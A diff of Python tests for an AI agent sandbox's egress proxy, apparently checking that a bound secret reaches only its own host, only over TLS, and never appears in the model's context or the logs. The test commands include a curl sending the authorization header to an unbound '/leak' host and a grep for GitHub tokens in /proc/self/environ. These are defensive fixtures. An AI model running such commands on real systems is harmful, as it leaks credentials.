@@ -197,15 +197,17 @@ async def test_a_secret_is_substituted_only_for_its_domain_and_never_shown(
         f"curl -sS {header} {wired.url('other.example.test', '/leak')}",
         "env | grep -c -e GH_TOKEN -e ghp_; grep -c ghp_ /proc/self/environ",
     )
-    bound, bound_tls, unbound, env = _stdout(result)
-    assert bound == bound_tls == f"Bearer {PLACEHOLDER}"  # the echo is taken back out
+    cleartext, bound_tls, unbound, env = _stdout(result)
+    assert bound_tls == f"Bearer {PLACEHOLDER}"  # the echo is taken back out
+    assert cleartext == "egress refused: placeholder_insecure\n"  # never over plain http, even to its own host
     assert unbound == "egress refused: placeholder_unbound\n"
-    seen = [hit["headers"]["Authorization"] for hit in [*wired.world.public.hits, *wired.world.tls.hits]]
-    assert seen == [f"Bearer {SECRET_VALUE}"] * 2  # it did reach the host it is bound to, and only that host
-    assert all(hit["path"] == "/echo-auth" for hit in [*wired.world.public.hits, *wired.world.tls.hits])
+    assert wired.world.public.hits == []
+    seen = [hit["headers"]["Authorization"] for hit in wired.world.tls.hits]
+    assert seen == [f"Bearer {SECRET_VALUE}"]  # it did reach the host it is bound to, over TLS, and only there
+    assert all(hit["path"] == "/echo-auth" for hit in wired.world.tls.hits)
     assert env == "0\n0\n"  # neither the variable nor its value is in the sandbox
     events = await read_events(async_redis, SESSION)
-    assert sorted(e["secrets"] for e in events) == [[], ["GITHUB_TOKEN"], ["GITHUB_TOKEN"]]
+    assert sorted(e["secrets"] for e in events) == [[], [], ["GITHUB_TOKEN"]]
     out, err = capfd.readouterr()
     for text in (json.dumps(result), repr(events), caplog.text, out, err):
         assert SECRET_VALUE not in text
@@ -280,7 +282,7 @@ async def test_a_whole_turn_keeps_the_token_and_the_secret_out_of_the_models_con
     needs_curl()
     agent = wired.world.settings.file.agents["assistant"].model_copy(update={"tools": ["shell"]})
     rt = runtime(tmp_path, registry=default_registry(sandbox=wired.box, egress=wired.gate))
-    fetch = f"curl -sS -H 'Authorization: {PLACEHOLDER}' {wired.url('api.example.test', '/echo-auth')}"
+    fetch = f"curl -sS -H 'Authorization: {PLACEHOLDER}' {wired.url('api.example.test', '/echo-auth', tls=True)}"
     command = f"echo $HTTPS_PROXY; printf %s $HTTPS_PROXY > proxy.txt; {fetch}"
     model = ReplayModel([calls_step(("shell", {"commands": [command]}), step=1), answer_step("done", step=2)])
     rt.models.override("offline", model)
@@ -292,7 +294,7 @@ async def test_a_whole_turn_keeps_the_token_and_the_secret_out_of_the_models_con
     context = model.requests[1].messages[-1].content
     assert f"http://{GRANT_SHOWN_AS}:grant@127.0.0.1:3128" in context and PLACEHOLDER in context, context
     assert SECRET_VALUE not in repr(model.requests) and SECRET_VALUE not in repr(sink.events)
-    assert wired.world.public.hits[0]["headers"]["Authorization"] == SECRET_VALUE  # the turn's agent's own secret
+    assert wired.world.tls.hits[0]["headers"]["Authorization"] == SECRET_VALUE  # the turn's agent's own secret
     token = (workspace_for(tmp_path / "ws", msg.session_key) / "proxy.txt").read_text()
     token = token.removeprefix("http://").partition(":")[0]
     assert token and token not in repr(model.requests) and wired.gate.policy.lookup(token) is None
